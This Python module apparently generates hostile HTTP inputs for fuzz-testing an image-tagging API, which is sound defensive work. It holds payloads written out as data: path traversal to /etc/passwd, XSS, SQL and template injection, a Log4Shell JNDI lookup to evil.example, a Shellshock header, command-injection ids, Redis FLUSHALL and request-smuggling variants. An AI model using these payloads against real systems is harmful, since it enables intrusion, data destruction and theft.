"""What hostile requests are made of: headers, forms, expressions, cursors, ids, ranges and bodies."""

from __future__ import annotations

import gzip
import io
import random

from PIL import Image

MARK = "<script>wildtag(1)</script>"
"""In what is sent; in no page that comes back."""
TWICE = (
    (b"Content-Length", b"5", b"6"), (b"Content-Length", b"5", b"5"), (b"Host", b"a.example", b"b.example"),
    (b"Content-Type", b"image/png", b"multipart/form-data; boundary=b"), (b"Transfer-Encoding", b"chunked",
    b"identity"),
    (b"Authorization", b"Bearer x", b"Bearer y"), (b"Origin", b"null", b"https://evil.example"),
    (b"Idempotency-Key", b"one", b"two"), (b"Cookie", b"a=b", b"a=c"), (b"X-Request-Id", b"one", b"two"),
)  # fmt: skip
CHUNKS = (
    b"-1\r\nx\r\n0\r\n\r\n", b"ffffffffffffffff\r\nx", b"fffffffffffffffff1\r\nx", b"0x5\r\nhello\r\n0\r\n\r\n",
    b"5;" + b"e" * 70_000 + b"\r\nhello\r\n0\r\n\r\n", b"5\nhello\n0\n\n", b"5\r\nhelloworld\r\n0\r\n\r\n", b"zz\r\n",
    b"0\r\nHost: evil\r\nAuthorization: Bearer x\r\n\r\n", b"1\r\nx\r\n" * 2000 + b"0\r\n\r\n",
)  # fmt: skip
CODINGS = (
    b"chunked",
    b"chunked",
    b"xchunked",
    b"chunked, gzip",
    b"identity, chunked",
    b"\x0bchunked",
    b"chunked\x00",
)
QUERIES = (
    ("/v1/search", ("q", "limit", "bucket", "prefix", "label", "min_score", "cursor", "fields", "like", "after")),
    ("/v1/objects", ("prefix", "state", "limit", "cursor", "fields", "bucket", "after", "finished_after", "error")),
    ("/v1/tags", ("prefix", "limit", "cursor", "refresh", "q")), ("/v1/statements", ("limit", "cursor", "bucket")),
    ("/v1/duplicates", ("limit", "cursor")), ("/v1/captions/search", ("q", "limit", "prefix")),
    ("/v1/objects/inbox/x", ("wait", "view", "fields", "if")), ("/v1/thumbnails/inbox/x", ("size", "v")),
    ("/v1/batches/0", ("wait", "limit")), ("/v1/feed", ("bucket", "prefix", "after")), ("/readyz", ("verbose",)),
)  # fmt: skip
_EXPRESSIONS = (
    MARK, "'\"><img src=x onerror=alert(1)>", "' OR 1=1 --", "{{7*7}}", "${jndi:ldap://evil.example/a}", "*",
    "a*" * 500,
    "(a+)+$", "\\", "\0", "\r\nFLUSHALL\r\n", "*1\r\n$8\r\nFLUSHALL\r\n", "-1", "1e999", "NaN", "inf", "0x10", "१२",
    "",
    "9" * 400, "../../../etc/passwd", "%00", "%2e%2e%2f", "\u202egnp.exe", "\ud7ff\U0010ffff", "a" * 12_000, "true",
    '{"$gt": ""}', "[]", "a,b,c," * 300, "{" * 200, "red'; return redis.call('keys','*') --", "\ufeff", "é" * 1500,
    "²",
    "2026-13-45T99:99:99Z", "0001-01-01T00:00:00+23:59", "-9999-01-01", "😀" * 300, "\x7f\x1b[2J", "a\u0300" * 700,
)  # fmt: skip
_IDENTIFIERS = (
    b"..%2f..%2f..%2fetc%2fpasswd", b"../../../etc/passwd", b"%2e%2e/%2e%2e/x", b"..%5c..%5cx", b"%00", b"a%00.png",
    b"%c0%ae%c0%ae/x", b"%ff", b"%ed%a0%80", b"a" * 1100, b"a" * 16_000, b"%F0%9F%98%80" * 200, b"%E2%80%AEgnp.x",
    b"uploads/..%2f.wildtag%2fjournal", b".wildtag/x", b"%252e%252e%252f", b"x/./y", b"x//y", b"%20",
    b"%0d%0aX-A:%20b",
    b"C:%5cx", b"~root", b"x:content", b":", b"%3A", b"%3Cscript%3Ewildtag(1)%3C%2Fscript%3E", b"0" * 32, b"%",
    b"%zz",
    b"*", b"[x]", b"%7Bx%7D", b"x%3Bls", b"%60id%60", b"{id}", b"CON", b"a?b=c", b"a%23b", b"%E0%80%AF", b"%1f",
)  # fmt: skip
_RANGES = (
    b"bytes=0-0", b"bytes=-1", b"bytes=1-0", b"bytes=99999999999999999999-", b"bytes=0-,0-,0-,0-",
    b"bytes=" + b"0-0," * 3000,
    b"bytes=a-b", b"lines=0-1", b"bytes", b"bytes=--1", b"bytes=0-18446744073709551616", b"bytes= 0 - 1",
    b"bytes=\xb2-",
)  # fmt: skip
_VALIDATORS = (
    b"*", b'"x"', b'W/"x"', b'"' + b"x" * 9000 + b'"', b'"x", ' * 2000, b"x", b'"', b"\xff",
    b"Thu, 01 Jan 1970 00:00:00 GMT",
    b"Thu, 99 Foo 99999 99:99:99 GMT", b"0", b"", b'"a" "b"', b"W/", b"*, *",
)  # fmt: skip
_HEADERS = (
    (b"X-Long", b"a" * 70_000), (b"Accept", b"\xff\xfe\x00"), (b"Cookie", b"wildtag_session_80=" + b"x" * 30_000),
    (b"Cookie", b"; ;=;\xff=\x01"), (b"Content-Length", b"-1"), (b"Content-Length", b"0x10"), (b"Content-Length",
    b"9" * 30),
    (b"Content-Length", b"+5"), (b"Host", b"evil.example"), (b"Host", b""), (b"Host", b"[::1"), (b"Host", b"a b"),
    (b"Bad Name", b"x"), (b"", b"x"), (b"X", b"a\r\n folded"), (b"X", b"a\nInjected: b"), (b"X\x00", b"y"),
    (b"Expect", b"x"),
    (b"X-Request-Id", b"\r\n\r\n<script>"), (b"traceparent", b"00-" + b"f" * 5000), (b"Accept-Language",
    b"q=" * 9000),
    (b"Authorization", b"\xff" * 3000), (b"Upgrade", b"x"), (b"Connection", b"close, " * 900), (b"Sec-Fetch-Site",
    b"\xc3"),
    (b"Referer", b"javascript:" + MARK.encode()), (b"User-Agent", b"() { :; }; id"), (b"Expect", b"100-continue"),
)  # fmt: skip


def image(chance: random.Random) -> bytes:
    """A small PNG that there was not before."""
    made = io.BytesIO()
    Image.frombytes("RGB", (8, 8), chance.randbytes(192)).save(made, "PNG")
    return made.getvalue()


def headers(chance: random.Random) -> list[tuple[bytes, bytes]]:
    """Broken, large or many headers."""
    if chance.random() < 0.1:
        return [(f"X-{number}".encode(), b"a" * 20) for number in range(chance.choice((200, 3000)))]
    return chance.sample(_HEADERS, chance.choice((1, 1, 2)))


def expression(chance: random.Random) -> str:
    """A value of a query parameter."""
    return chance.choice(_EXPRESSIONS)


def identifier(chance: random.Random) -> bytes:
    """A part of a path, as it is sent."""
    return chance.choice(_IDENTIFIERS)


def byte_range(chance: random.Random) -> bytes:
    """A value of Range."""
    return chance.choice(_RANGES)


def validator(chance: random.Random) -> bytes:
    """A value of If-None-Match and its like."""
    return chance.choice(_VALIDATORS)


def tampered(chance: random.Random, cursor: str) -> str:
    """A cursor that somebody changed, or of another list."""
    at = chance.randrange(max(1, len(cursor)))
    return chance.choice((
        cursor, cursor[:at], cursor[:at] + "A" + cursor[at + 1 :], cursor * 2, cursor[::-1], cursor.swapcase(), "",
        "AAAA", "eyJhIjoxfQ==", "=" * 50, "\0", "-" * 3000, "é", "null", "0-0", "9" * 50,
    ))  # fmt: skip


def form(chance: random.Random) -> tuple[bytes, bytes]:
    """A content type and a body that is no valid form with an image."""
    kind, body = b"multipart/form-data; boundary=b", b""
    file = (
        b'--b\r\nContent-Disposition: form-data; name="image"; filename="%s"\r\nContent-Type: image/png\r\n\r\nx\r\n'
    )
    choices: tuple[tuple[bytes, bytes], ...] = (
        (b"multipart/form-data", b"x"), (b"multipart/form-data; boundary=", b"--\r\n"), (kind, body),
        (kind, b"--b--"),
        (b"multipart/form-data; boundary=" + b"b" * 300, b"--" + b"b" * 300 + b"\r\n"), (kind, file % b"x"),
        (kind, file % b"../../x" + b"--b--\r\n"), (kind, file % b"a\x00.png" + b"--b--\r\n"),
        (kind, file % b"\xff\xfe" + b"--b--\r\n"), (kind, file % (b"n" * 9000) + b"--b--\r\n"),
        (kind, b"--b\r\nContent-Disposition: form-data\r\n\r\nx\r\n--b--\r\n"), (kind, b"--b\r\n\r\nx\r\n--b--\r\n"),
        (kind, b"--b\r\nX: " + b"h" * 70_000 + b"\r\n\r\nx\r\n--b--\r\n"), (kind, b"--b\nA: b\n\nx\n--b--\n"),
        (kind, b"--b\r\nContent-Disposition: form-data; name=client_id\r\n\r\n" + b"v" * 70_000 + b"\r\n--b--\r\n"),
        (kind, b"--b\r\nContent-Disposition: form-data; name=f\r\n\r\nv\r\n" * 3000 + b"--b--\r\n"),
        (kind, b"--b\r\nContent-Disposition: form-data; name=metadata\r\n\r\n" + b"[" * 9000 + b"\r\n--b--\r\n"),
        (kind, (file % b"x") * 150 + b"--b--\r\n"), (b"multipart/mixed; boundary=b", file % b"x" + b"--b--\r\n"),
        (b"multipart/form-data; boundary=b; boundary=c", file % b"x" + b"--b--\r\n"),
        (kind, b"--b--\r\n" + file % b"x"),
        (kind, b"--b\r\nContent-Type: multipart/mixed; boundary=c\r\n\r\n--c\r\n\r\nx\r\n--c--\r\n--b--\r\n"),
        (kind, b"--b\r\nContent-Transfer-Encoding: base64\r\n" + (file % b"x")[5:] + b"--b--\r\n"),
        (b"application/x-www-form-urlencoded", b"image=" + b"%41" * 4000), (kind, b"\r\n" * 40_000),
        (b'multipart/form-data; boundary="b\r\n"', b"--b--"), (b"multipart/form-data; charset=utf-7; boundary=b",
        file),
        (b"text/plain", MARK.encode()), (b"\xff/\xff", b"x"), (b"", b"x"),
    )  # fmt: skip
    return chance.choice(choices)


def json_bomb(chance: random.Random) -> bytes:
    """A body that is no JSON, or too much of it, or of the wrong form."""
    return chance.choice((
        b"[" * 8000, b'{"a":' * 3000, b"[" + b"1," * 7000 + b"1]",
        b'"' + b"\\u0000" * 2000 + b'"', b"\xff\xfe[\x00]\x00",
        b'{"keys": ["\\ud800"]}', b'{"key": NaN}', b'{"key": 1e999}', b'{"key": ' + b"9" * 5000 + b"}", b"null", b"",
        b"{}",
        b'{"__proto__": {"a": 1}}', b'{"a": 1, "a": 2}', b'{"captions": [' + b'"",' * 200 + b'""]}', b"{'a': 1}",
        b'{"captions": "x"}', b'{"keys": [null]}', b'{"content_type": "text/html"}', b'{"size": -1}',
        b"\xef\xbb\xbf{}",
        b'{"captions": ["\\u202e"]}', b"[" * 31 + b"]" * 31,
        b'{"keys": [' + b'{"a":' * 100, b'"' + b"a" * 16_000 + b'"',
    ))  # fmt: skip


def zipped(chance: random.Random) -> bytes:
    """A small body that is large when it is expanded."""
    return gzip.compress(bytes(chance.choice((10**5, 10**7))), 9, mtime=0)


def garbage(chance: random.Random) -> bytes:
    """What is no HTTP/1.1."""
    return chance.choice((
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + chance.randbytes(60), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"GET\r\n\r\n", b"GET / HTTP/3.7\r\n\r\n", b"\r\n" * 500, b"GET / HTTP/1.1\r\nHost: HOST\r\n: x\r\n\r\n",
        chance.randbytes(300),
        b"GET http://evil.example/ HTTP/1.1\r\nHost: HOST\r\n\r\n",
        b"CONNECT evil.example:443 HTTP/1.1\r\nHost: HOST\r\n\r\n",
        b"GET /" + b"a" * 40_000 + b" HTTP/1.1\r\nHost: HOST\r\n\r\n", b"*1\r\n$4\r\nPING\r\n",
        b"GET /v1/objects\r\n",
        b"G" * 70_000, b"GET / HTTP/1.1\nHost: HOST\n\n", b"GET /\x00 HTTP/1.1\r\nHost: HOST\r\n\r\n",
        b"GET  /  HTTP/1.1\r\n\r\n",
    ))  # fmt: skip
